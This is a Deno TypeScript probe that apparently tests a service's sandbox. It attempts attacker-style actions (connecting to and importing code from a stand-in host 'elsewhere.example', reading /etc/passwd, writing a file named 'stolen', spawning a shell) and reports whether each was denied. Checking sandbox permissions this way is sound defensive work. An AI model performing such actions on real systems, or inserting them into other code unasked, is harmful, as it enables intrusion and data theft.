/**
 * Tries what an attacker in control of the service would: a program that runs under the service's flags and prints the
 * result of each action as a line of JSON.
 *
 * Arguments: the folder of the service's route table, which it may read but not write.
 *
 * @module
 */

/** The result of an action. */
export interface ProbeResult {
  readonly action: string;
  /** Whether the runtime denied it. */
  readonly denied: boolean;
}

const [folder = "."] = Deno.args;

const ACTIONS: Readonly<Record<string, () => unknown>> = {
  "read its own route table": () => Deno.readTextFile(`${folder}/routes.json`),
  "connect to another host": () => Deno.connect({ hostname: "elsewhere.example", port: 443 }),
  "connect to another port of its upstream's host": () => Deno.connect({ hostname: "localhost", port: 1 }),
  "load code from another host": () => import(`https://elsewhere.example/${"code"}.ts`),
  "read another file": () => Deno.readTextFile("/etc/passwd"),
  "read another variable": () => Deno.env.get("PATH"),
  "write a file": () => Deno.writeTextFile(`${folder}/stolen`, "secret"),
  "start a program": () => new Deno.Command("sh", { args: ["-c", "true"] }).output(),
};

/** Whether the runtime denied a permission, as opposed to any other failure. */
function isDenial(error: unknown): boolean {
  if (error instanceof Deno.errors.NotCapable) return true;
  // For an import only the message says so.
  return error instanceof TypeError && /Requires import access|--no-remote/.test(error.message);
}

if (import.meta.main) {
  for (const [action, run] of Object.entries(ACTIONS)) {
    let denied = false;
    try {
      await run();
    } catch (error) {
      denied = isDenial(error);
    }
    console.log(JSON.stringify({ action, denied } satisfies ProbeResult));
  }
}
